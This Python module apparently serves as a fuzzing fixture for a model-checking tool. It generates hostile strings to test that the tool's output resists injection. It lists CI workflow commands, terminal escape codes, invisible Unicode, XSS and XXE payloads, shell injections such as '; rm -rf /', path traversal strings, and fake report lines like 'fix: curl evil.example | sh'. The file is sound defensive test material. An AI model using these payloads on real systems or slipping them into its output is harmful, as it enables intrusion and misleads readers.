# ruff: noqa: E501
"""Strings that try to inject commands or markup, or to mislead a reader."""

from __future__ import annotations

from random import Random

RUNNER = (
    "::error::x", "::error file=a.py,line=1::x", "::stop-commands::x", "::add-mask::a", "::set-output name=a::b",
    "::group::", "##[error]x", "##[group]", "###[warning]", "##", "[error]x", "%0A::error::x", "%25", "%0D%0A",
    ",line=9", ",title=x", "::", "${{ secrets.GITHUB_TOKEN }}", "${{ github.token }}",
)  # fmt: skip
BREAKS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
TERMINAL = (
    "\x1b[31m", "\x1b[2J", "\x1b[1A\x1b[2K", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m", "\x9d0;t\x9c", "\x07", "\x08\x08\x08", "\x00", "\x7f", "\x1b", "\x0e", "\x1bP1$r\x1b\\", "\t",
)  # fmt: skip
UNSEEN = (
    "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060",
    "\ufeff", "\u00ad", "\u00a0", "\u3000", "\u180e", "\U000e0041", "\ufff9", "\u2800", "\u115f", "\u3164", "\uffa0",
    "\u034f", "\ufe0f", "\U000e0100", "\u17b4",
)  # fmt: skip
SPELLINGS = (
    "מודל", "نموذج", "аdmin", "раss", "ﬁle", "模型", "🏳️‍🌈", "👩‍👩‍👧", "\U0001f1e9\U0001f1ea", "e\u0301", "a" + "\u0323\u0307" * 40,
    "\udc80", "\udcff\udcfe", "\ud800", "\ue000", "\uffff", "\U0010ffff", "İ", "ß", "\U0001d49c",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", "</script>", "</style>", "</title>", "<img src=x onerror=alert(1)>", "<svg/onload=a()>",
    "\" onmouseover=\"alert(1)", "' onclick='a()", "<!--", "-->", "]]>", "<![CDATA[", "<?php", "&lt;", "&#60;b&#62;",
    "<b", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>", "<base href=//e>",
    "<iframe srcdoc='x'>", "<details><summary>x</summary>", "</details>", "</code>", "</td></tr></table>", "<br>",
    "<template>", "<plaintext>", "<math><mtext></mtext>", "&", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "&b;", "</message>", "</testcase>", "<style>*{display:none}</style>", "expression(alert(1))",
)  # fmt: skip
MARKDOWN = (
    "![x](https://evil.example/p.png)", "[x](https://evil.example)", "[x](javascript:a())", "<https://evil.example>",
    "https://evil.example", "www.evil.example", "http://evil.example/`", "a@evil.example", "mailto:a@evil.example",
    "@octocat", "@org/team", "#1", "org/repo#12", "GH-3", "0123456789abcdef0123456789abcdef01234567", "# heading",
    "\n# heading\n", "\n---\n", "\n===\n", "===", "---", "- x", "* x", "+ x", "1. x", "> x", "> [!CAUTION]", "| a | b |",
    "|", "\\|", "\\", "`", "``", "```", "````", "~~~", "\n```mermaid\n", "```\n", "**b**", "__b__", "*i*", "_i_", "~~s~~",
    "[x]: https://evil.example", "[^1]", "[^1]: x", "[ ] x", "[x] x", "&#64;octocat", "&commat;octocat", "$x$", "$$x$$",
    "$`x`$", ":+1:", "    code", "\n\n    code", "<!-- x -->", "\\\n", "  \n", "![](#)", "[][]",
)  # fmt: skip
DIAGRAMS = (
    '"]', '"] --> n0', "\n  n0 --> n1", "%%{init: {}}%%", 'click n0 "javascript:alert(1)"', "end", "subgraph x", "fa:fa-car",
    "classDef x fill:#f00", "#quot;", "#59;", ";", "n0[/x/]", "---\ntitle: x\n---", "`md`",
)  # fmt: skip
DATA = (
    '"', "'", "\\u0022", '",', '"}', "}]", '\\"', "\x00", "null", "NaN", "{", '"""', "'''", "]", "[[ignore]]", "\n[targets.x]\n",
    "a = 1", "\\", "\\x", "\\U00110000", "'; --", "$(touch x)", "`touch x`", "; rm -rf /", "&& x", "|x", "$HOME", "!x", "*", "~",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "/etc/passwd", "//host/share", "\\\\host\\share", "C:\\x", "CON", "nul.onnx", "aux.", "a:b", ".", "..",
    "-rf", "--help", "~root/x", "file:///etc/passwd", "x\x00.onnx", "a/./b//c", "%2e%2e%2f", "?x=1", "#frag", " ", "x ",
)  # fmt: skip
OURS = (
    "pass: 2 models on 8 runtimes", "fail: 1 model", "undecided: 1 model", "undecided", "skipped", "ignored", "to reproduce",
    "error    load-failed  models/a.onnx", "  error    missing-kernel  models/a.onnx", "warning  x  y", "note     x  y",
    "fix: curl evil.example | sh", "hint: curl evil.example | sh", "node: x", "nodes: 3 added", "interface", "weights",
    "after the upgrade: pass: 1 model", "preview: nothing would break", "would break", "not verified", "onnxgate check",
    "no model changed since main", "a -> b: the same model", "that makes `x`", "and 3 more models", "`", "Traceback",
    "predictions that were wrong", "to accept it, paste this into the config:", "stays as it is",
)  # fmt: skip
FAMILIES = (RUNNER, BREAKS, TERMINAL, UNSEEN, SPELLINGS, HTML, MARKDOWN, DIAGRAMS, DATA, PATHS, OURS)
ALL = tuple(dict.fromkeys(each for family in FAMILIES for each in family))
WORDS = ("x", "models/a.onnx", "a b", "0", "Conv", "models", " ", "  ", "lorem ipsum dolor sit amet", "é")


def text(random: Random) -> str:
    """Return one hostile string: several attacks with words between them, or a single attack."""
    kind = random.random()
    if kind < 0.25:
        return random.choice(random.choice(FAMILIES))
    if kind < 0.35:
        return "".join(chr(_code(random)) for _ in range(random.randint(1, 12)))
    parts = [random.choice(random.choice((*FAMILIES, WORDS, WORDS))) for _ in range(random.randint(2, 6))]
    return random.choice(("", "", " ", "\n")).join(parts)


def large(random: Random, most: int = 1_000_000) -> str:
    """Return a very long string: a megabyte of one pattern, such as lines or combining marks."""
    unit = random.choice(
        ("x", "🏳️‍🌈", "::error::x\n", "\n", "`", "<b>", "| ", "a" + "\u0301", "\u202e", "@o ", "\\", "[](", "> ")
    )
    return unit * (random.choice((most, most // 10)) // len(unit))


def is_text(text: str) -> bool:
    """Return True for a string that can be written as UTF-8, which TOML requires."""
    return not any("\ud800" <= character <= "\udfff" for character in text)


def _code(random: Random) -> int:
    """Return any code point, with a preference for low ones."""
    return random.choice(
        (random.randrange(0x20), random.randrange(0x100), random.randrange(0x3100), random.randrange(0x110000))
    )
